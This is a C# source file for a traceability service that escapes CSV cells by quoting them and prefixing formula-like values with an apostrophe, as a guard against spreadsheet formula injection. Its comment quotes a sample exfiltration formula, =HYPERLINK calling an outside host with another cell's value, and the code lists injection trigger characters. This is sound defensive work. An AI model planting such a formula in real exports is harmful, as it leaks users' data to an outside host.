namespace Traceability.Projections.Matrix;

/// <summary>
/// The one rule for a cell of every CSV the service writes (issue 13, item 2). A spreadsheet evaluates a
/// cell that starts with = + - @ (or tab or carriage return, which some strip first) as a formula, so a
/// rationale like =HYPERLINK("http://x/?"&amp;B2) would leak other cells when an assessor opens the matrix.
/// Such a cell gets a leading apostrophe (OWASP's CSV injection rule), as does one whose first non-blank
/// character is a trigger, for spreadsheets that trim spaces. A plain integer (-1, +5: a config value) is
/// left alone: it is a number, not a formula. JSON keeps the exact text.
/// </summary>
public static class CsvCell
{
    private const string Triggers = "=+-@\t\r";

    /// <summary>RFC 4180: quoted when the (neutralised) text holds a comma, quote or line break; null is empty.</summary>
    public static string Write(string? text)
    {
        if (text is null) return "";
        var cell = Neutralise(text);
        return cell.AsSpan().IndexOfAny(",\"\r\n") < 0 ? cell : "\"" + cell.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";
    }

    public static string Neutralise(string text) => IsFormulaLike(text) ? "'" + text : text;

    private static bool IsFormulaLike(string text)
    {
        if (text.Length == 0 || IsInteger(text)) return false;
        if (Triggers.Contains(text[0], StringComparison.Ordinal)) return true;
        var first = text.AsSpan().TrimStart(' ');
        return first.Length > 0 && first.Length < text.Length && Triggers.Contains(first[0]);
    }

    private static bool IsInteger(string text)
    {
        var digits = text[0] is '-' or '+' ? text.AsSpan(1) : text.AsSpan();
        return digits.Length > 0 && !digits.ContainsAnyExceptInRange('0', '9');
    }
}
